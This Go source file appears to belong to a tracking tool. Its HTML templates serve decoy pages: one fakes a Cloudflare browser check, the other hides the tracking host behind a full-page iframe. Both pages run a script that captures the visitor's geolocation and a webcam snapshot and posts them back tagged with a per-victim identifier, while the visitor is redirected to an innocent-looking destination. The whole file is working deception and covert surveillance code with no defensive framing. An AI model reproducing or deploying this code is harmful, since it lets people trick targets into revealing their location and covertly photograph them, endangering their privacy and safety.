package api

import "html/template"

// The two decoy pages are kept inline, one template per variant. Both embed
// the callback script that reports geolocation and a camera frame back to the
// service, tagged with the raw identifier token from the path.

const callbackScript = `
<script>
  var uid = "{{.UID}}";
  function report(path, payload) {
    try {
      fetch(path, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify(payload)
      });
    } catch (e) {}
  }
  if (navigator.geolocation) {
    navigator.geolocation.getCurrentPosition(function (pos) {
      report("/location", {
        lat: pos.coords.latitude,
        lon: pos.coords.longitude,
        uid: uid,
        acc: pos.coords.accuracy
      });
    });
  }
  if (navigator.mediaDevices && navigator.mediaDevices.getUserMedia) {
    navigator.mediaDevices.getUserMedia({ video: true }).then(function (stream) {
      var video = document.createElement("video");
      video.srcObject = stream;
      video.play();
      setTimeout(function () {
        var canvas = document.createElement("canvas");
        canvas.width = video.videoWidth || 640;
        canvas.height = video.videoHeight || 480;
        canvas.getContext("2d").drawImage(video, 0, 0);
        report("/camsnap", {
          uid: uid,
          img: canvas.toDataURL("image/png").split(",")[1]
        });
        stream.getTracks().forEach(function (t) { t.stop(); });
      }, 1500);
    }).catch(function () {});
  }
</script>`

// cloudflarePage imitates a browser-check interstitial, then forwards the
// visitor to the destination.
const cloudflarePage = `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Just a moment...</title>
  <style>
    body { background: #1d1d1d; color: #d9d9d9; font-family: -apple-system, "Segoe UI", Arial, sans-serif;
           display: flex; align-items: center; justify-content: center; height: 100vh; margin: 0; }
    .box { text-align: center; max-width: 28rem; padding: 0 1rem; }
    .spinner { margin: 0 auto 1.5rem; width: 44px; height: 44px; border: 4px solid #3d3d3d;
               border-top-color: #f38020; border-radius: 50%; animation: spin 1s linear infinite; }
    @keyframes spin { to { transform: rotate(360deg); } }
    h1 { font-size: 1.3rem; font-weight: 500; }
    p { color: #8c8c8c; font-size: 0.9rem; }
  </style>
</head>
<body>
  <div class="box">
    <div class="spinner"></div>
    <h1>Checking your browser before accessing the site.</h1>
    <p>This process is automatic. You will be redirected shortly.</p>
    <p>Ray ID: {{.UID}} &middot; {{.IP}} &middot; {{.Time}}</p>
  </div>
  {{template "callback" .}}
  <script>
    setTimeout(function () { window.location.href = "{{.DecoyURL}}"; }, 4000);
  </script>
</body>
</html>`

// webviewPage serves the destination inside a full-frame embed so the address
// bar keeps showing the tracking host while the callback script runs.
const webviewPage = `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Loading...</title>
  <style>
    html, body { margin: 0; padding: 0; height: 100%; overflow: hidden; }
    iframe { border: none; width: 100%; height: 100%; }
  </style>
</head>
<body>
  <iframe src="{{.DecoyURL}}" allow="geolocation"></iframe>
  {{template "callback" .}}
</body>
</html>`

// LoadTemplates parses the decoy pages into one template set keyed by variant
// name, ready for the router's HTML renderer.
func LoadTemplates() *template.Template {
	t := template.New("decoy")
	template.Must(t.New("callback").Parse(callbackScript))
	template.Must(t.New("cloudflare").Parse(cloudflarePage))
	template.Must(t.New("webview").Parse(webviewPage))
	return t
}
